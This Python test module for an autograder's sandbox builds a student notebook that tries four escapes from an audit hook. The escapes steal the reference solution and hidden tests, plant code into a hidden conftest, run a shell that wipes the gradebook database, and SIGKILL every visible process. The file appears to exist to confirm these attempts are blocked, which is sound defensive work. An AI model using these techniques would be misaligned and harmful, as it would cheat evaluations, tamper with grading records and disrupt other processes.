"""The four escapes from the old in-process audit hook, each followed by what it was for:
the hook's guard found with ``gc.get_objects()``; ``os.open(..., dir_fd=...)`` relative to a
descriptor of ``/``; ``subprocess._fork_exec`` (the reference ``subprocess`` keeps after
``_posixsubprocess.fork_exec`` is deleted); ``signal.pidfd_send_signal`` (no audit event).

Each one now runs into the operating system's sandbox: the repository, the grading folder
and the grader's processes do not exist there. The honest kernels around them keep their
points; the kernels that rely on what the escapes would have reached get nothing."""

from attacks import add_cell, append_to_answer, deserved, replace_answer
from attacks._escape import ESCAPE

STUDENT = "attack_escapes"
DESERVED = deserved(precision_im2col=0)

# 1. switch the hook off, then read the reference and the hidden checks and use them
GC_CLOSURE = (
    ESCAPE
    + """
import importlib.util

_stolen = None
for _path in [{repo!r} + "/src/dnnkernels/conv2d.py", {repo!r} + "/autograder/hidden/test_precision.py"]:
    try:
        _spec = importlib.util.spec_from_file_location("_stolen", _path)
        _mod = importlib.util.module_from_spec(_spec)
        _spec.loader.exec_module(_mod)
        _stolen = _stolen or _mod
        print("ESCAPED: read", _path)
    except Exception as _error:
        print("escape 1 blocked:", type(_error).__name__)


def conv2d_im2col(x, k, b=None, stride=1, padding=0):
    if _stolen is None or not hasattr(_stolen, "conv2d_im2col"):
        raise RuntimeError("could not steal the reference")
    return _stolen.conv2d_im2col(x, k, b, stride, padding)
"""
)

# 2. a descriptor of / and a relative path: plant code into the hidden checks' conftest
DIR_FD = """
import os as _os

try:
    _root = _os.open("/", _os.O_RDONLY)
    _fd = _os.open({conftest_rel!r}, _os.O_WRONLY | _os.O_APPEND, dir_fd=_root)
    _os.write(_fd, b"\\n# planted by a student\\nPLANTED = True\\n")
    _os.close(_fd)
    print("ESCAPED: planted code")
except Exception as _error:
    print("escape 2 blocked:", type(_error).__name__)
"""

# 3. the private fork helper: a shell that would reach the grading folder
FORK_EXEC = (
    ESCAPE
    + """
import subprocess as _subprocess

try:
    _subprocess.run(["/bin/sh", "-c", "cp /dev/null " + {gradebook!r} + " 2>/dev/null && echo ESCAPED: shell"])
except Exception as _error:
    print("escape 3 blocked:", type(_error).__name__)
"""
)

# 4. signals without an audit event: SIGKILL every process this code can see, but itself
PIDFD = """
import os as _os
import signal as _signal

_killed = 0
for _pid in range(2, 4096):
    if _pid == _os.getpid():
        continue
    try:
        _signal.pidfd_send_signal(_os.pidfd_open(_pid), _signal.SIGKILL)
        _killed += 1
    except Exception:
        pass
print("pidfd: signalled", _killed, "processes")
"""


def build(ctx):
    fill = {
        "repo": str(ctx.repo),
        "conftest_rel": str(ctx.repo / "autograder" / "hidden" / "conftest.py").lstrip("/"),
        "gradebook": str(ctx.grading / "gradebook.db"),
    }
    nb = replace_answer(ctx.solution, "precision_im2col", GC_CLOSURE.format(**fill))
    nb = append_to_answer(nb, "precision_winograd", DIR_FD.format(**fill))
    nb = append_to_answer(nb, "precision_fft", FORK_EXEC.format(**fill))
    # an extra cell at the end runs in the notebook's kernel only (not in the checks)
    return add_cell(nb, PIDFD)
